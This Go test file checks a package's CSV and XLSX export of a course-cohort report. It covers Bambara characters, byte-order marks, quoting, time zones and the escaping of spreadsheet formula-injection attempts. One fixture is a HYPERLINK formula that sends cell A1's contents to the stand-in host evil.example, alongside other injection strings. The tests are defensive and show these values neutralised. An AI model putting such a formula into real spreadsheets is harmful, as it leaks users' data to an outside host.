package sheet_test

import (
	"bytes"
	"encoding/csv"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/kalan-platform/kalan/server/sheet"
)

// bambaraName has the Bambara letters a legacy code page lacks: ɔ ɛ Ɲ Ŋ.
const bambaraName = "Fanta Kɔnɛ Ɲuman Ŋara"

// bom is the UTF-8 byte-order mark the CSV starts with.
const bom = "\uFEFF"

// report is a small report with every kind, empty cells, a value needing
// CSV quotes, dates in two zones and formula-injection attempts.
func report() sheet.Table {
	return sheet.Table{
		Name: "Cohorte Ségou 2024",
		Columns: []sheet.Column{
			{Header: "Nom", Kind: sheet.Text},
			{Header: "Commentaire", Kind: sheet.Text},
			{Header: "Modules terminés", Kind: sheet.Int},
			{Header: "Score moyen", Kind: sheet.Decimal},
			{Header: "Réussite (%)", Kind: sheet.Percent},
			{Header: "Terminé le", Kind: sheet.Date},
		},
		Rows: [][]any{
			{bambaraName, "Bamako, \"cohorte 3\"\nsession 2", 12, 15.5, 0.8333, time.Date(2024, 3, 5, 10, 30, 0, 0, time.UTC)},
			{`=HYPERLINK("http://evil.example/?d="&A1,"Clic")`, nil, 0, nil, nil, nil},
			// 01:00 at UTC+2 is still 31 December in UTC.
			{"+1", "-2", -3, -1.25, 1.0, time.Date(2025, 1, 1, 1, 0, 0, 0, time.FixedZone("UTC+2", 2*3600))},
			{"@SUM(A1:A2)", "", int64(7), -0.001, 0.0, nil},
			{"\t=1+1", "\r=1+1", nil, nil, nil, nil},
		},
	}
}

// reportCSV is report() as CSV, byte for byte.
const reportCSV = bom +
	"Nom,Commentaire,Modules terminés,Score moyen,Réussite (%),Terminé le\r\n" +
	"Fanta Kɔnɛ Ɲuman Ŋara,\"Bamako, \"\"cohorte 3\"\"\r\nsession 2\",12,15.50,83.3,2024-03-05\r\n" +
	"\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"Clic\"\")\",,0,,,\r\n" +
	"'+1,'-2,-3,-1.25,100.0,2024-12-31\r\n" +
	"'@SUM(A1:A2),,7,0.00,0.0,\r\n" +
	"'\t=1+1,\"'\r\n=1+1\",,,,\r\n"

// reportCells is what a CSV reader gets from reportCSV: the quoted CRLF
// inside a cell reads back as LF, the CR that started a cell too.
var reportCells = [][]string{
	{"Nom", "Commentaire", "Modules terminés", "Score moyen", "Réussite (%)", "Terminé le"},
	{bambaraName, "Bamako, \"cohorte 3\"\nsession 2", "12", "15.50", "83.3", "2024-03-05"},
	{`'=HYPERLINK("http://evil.example/?d="&A1,"Clic")`, "", "0", "", "", ""},
	{"'+1", "'-2", "-3", "-1.25", "100.0", "2024-12-31"},
	{"'@SUM(A1:A2)", "", "7", "0.00", "0.0", ""},
	{"'\t=1+1", "'\n=1+1", "", "", "", ""},
}

// writeCSV writes t as CSV and fails the test on error.
func writeCSV(t testing.TB, tb sheet.Table) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := tb.WriteCSV(&buf); err != nil {
		t.Fatalf("WriteCSV: %v", err)
	}
	return buf.Bytes()
}

// readCSV checks the byte-order mark and parses the rest.
func readCSV(t testing.TB, b []byte) [][]string {
	t.Helper()
	rest, ok := bytes.CutPrefix(b, []byte(bom))
	if !ok {
		t.Fatalf("CSV does not start with a UTF-8 byte-order mark: %q", b[:min(len(b), 8)])
	}
	records, err := csv.NewReader(bytes.NewReader(rest)).ReadAll()
	if err != nil {
		t.Fatalf("read CSV back: %v", err)
	}
	return records
}

// writeXLSX writes t as XLSX and opens the result.
func writeXLSX(t testing.TB, tb sheet.Table) (*excelize.File, []byte) {
	t.Helper()
	var buf bytes.Buffer
	if err := tb.WriteXLSX(&buf); err != nil {
		t.Fatalf("WriteXLSX: %v", err)
	}
	b := buf.Bytes()
	f, err := excelize.OpenReader(bytes.NewReader(b))
	if err != nil {
		t.Fatalf("open XLSX: %v", err)
	}
	t.Cleanup(func() {
		if err := f.Close(); err != nil {
			t.Errorf("close XLSX: %v", err)
		}
	})
	return f, b
}

// onlySheet returns the name of the workbook's single sheet.
func onlySheet(t testing.TB, f *excelize.File) string {
	t.Helper()
	list := f.GetSheetList()
	if len(list) != 1 {
		t.Fatalf("sheets = %q, want exactly one", list)
	}
	return list[0]
}
